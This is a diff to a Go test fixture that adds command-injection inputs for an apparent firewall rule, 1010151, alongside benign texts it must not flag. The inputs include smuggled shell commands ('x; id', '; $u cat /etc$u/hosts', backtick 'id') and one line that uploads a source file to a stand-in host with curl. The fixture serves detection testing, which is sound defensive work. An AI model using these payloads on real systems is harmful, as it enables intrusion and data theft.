@@ -28,6 +28,10 @@ var commands = map[int][]string{
 	932270: {"~+", "~-", "~-1", "~+5", "echo ~-", "a=~+/b"},
 	932280: {"{,id}", "{cat,/etc/hosts}", "l{s,}", "{l,-lh}s", "c{a,oun}t", "We read about {,ip,a} instead.", "{,ifconfig,eth0}", "{id,}", "\u200b{l,-lh}s\u00a0"},
 	932330: {"!-1", "!-1!-2", "\x01!-1!-2", "a; !-3", "echo '!-0'"},
+	1010151: {
+		"8.8.8.8; cat app.py", "x; id", "https://a.example; pwd", "`id`", "a && id", "x| id", "\nid", "x; aws s3 ls", "x; ps aux", "curl -d @index.js http://h.example",
+		";cat index.js", "|id", ";$0 -c id", "; $u cat /etc$u/hosts", "$u/bin$u/cat$u $u/etc$u/hosts$u", "a);id", "a|id|", "& id",
+	},
 	932340: {";ps", ";env", ";set", "&aptitude", "x.php?cmd=ls", ";whoami", "|id", "|id|"},
 }
 
@@ -52,6 +56,10 @@ var texts = map[int][]string{
 	932270: {"0~-0.24!1~-0.29!2~-0.48", "AF31~-1~YAAQ~-1~-1~0", "It cost about a~-b"},
 	932280: {"lib/{cjs,esm}/**", "*.{js,json,md}", "{{1,2,3},{4,5,6}}", "src/**/*.{test,spec}.js", "{src,third_party}/**", `{"a":1,"b":2}`},
 	932330: {"T1sF!-915147122!a.example!7003", "b,af,!c,!-9w,,,", "wow!-2"},
+	1010151: {
+		"a=1&id=3&w=2", "Tea; who wants some?", "cats & dogs; id cards", "return a;\n  id;\n", "| id | name | type |\n|----|------|------|\n", "The `id` of a user is a number.",
+		"query {\n  id\n  name\n}", "a.html;w=300", "Come in; head straight on to the left", "id&name&type", "Rock & w", "See the head; who is it?",
+	},
 	932340: {"DOB=20240702&T=1719903633000&POEX=W", "data-type=w", "Do you want it?\nReply now, w", "before the call of\nset\nzero"},
 }
 
